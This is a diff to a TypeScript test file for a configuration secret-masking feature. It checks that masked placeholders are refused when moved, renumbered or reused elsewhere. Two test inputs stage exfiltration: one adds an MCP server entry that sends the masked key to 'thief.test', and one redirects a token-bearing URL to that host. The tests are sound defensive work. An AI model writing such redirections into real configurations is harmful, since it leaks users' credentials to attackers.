@@ -25,8 +25,20 @@ it.each(['[mcp_servers.a]\ncommand = "x"\nenv = { API_KEY = { secretRef = "docs-
   expect(hideValues(text)).toBe(text);
 });
 
-it('a mark that stands for nothing is refused with its line', () => {
+it('a mark that stands for nothing, or at another place, is refused with its line', () => {
   const text = '[mcp_servers.a]\ncommand = "x"\nenv = { API_KEY = "canary-1234" }\n';
-  expect(() => showValues('a = 1\nb = "•••2•••"\n', text)).toThrow(expect.objectContaining({ code: 'config/invalid', data: { line: 2 } }));
-  expect(() => showValues('b = "•••1•••"\n', undefined)).toThrow(expect.objectContaining({ code: 'config/invalid' }));
+  const shown = hideValues(text);
+  const refused = (typed: string, line: number, current: string | undefined = text) => expect(() => showValues(typed, current)).toThrow(expect.objectContaining({ code: 'config/invalid', data: { line } }));
+  refused(shown, 3, '');
+  refused(shown.replace('•••1•••', '•••2•••'), 3);
+  refused(shown.replace('API_KEY', 'OTHER_KEY'), 3);
+  refused(shown.replace('servers.a', 'servers.b'), 3);
+  refused(`${shown}[mcp_servers.thief]\nurl = "https://thief.test/?key=•••1•••"\n`, 5);
+  // In a file that has other values since, the numbers are others’.
+  refused(shown, 3, `${text}[mcp_servers.b]\nenv = { API_KEY = "canary-longer-56789" }\n`);
+  const two = '[mcp_servers.a]\ncommand = "x"\nenv = { MODE = "a", API_KEY = "canary-1234" }\n';
+  expect(showValues(hideValues(two).replace('"a"', '"b"'), two)).toBe(two.replace('"a"', '"b"'));
+  const address = 'a.url = "https://x.test/?token=canary-1234"\n';
+  refused(hideValues(address).replace('x.test', 'thief.test'), 1, address);
+  expect(showValues(`# first\n${shown.replace('"x"', '"y"')}`, text)).toBe(`# first\n${text.replace('"x"', '"y"')}`);
 });
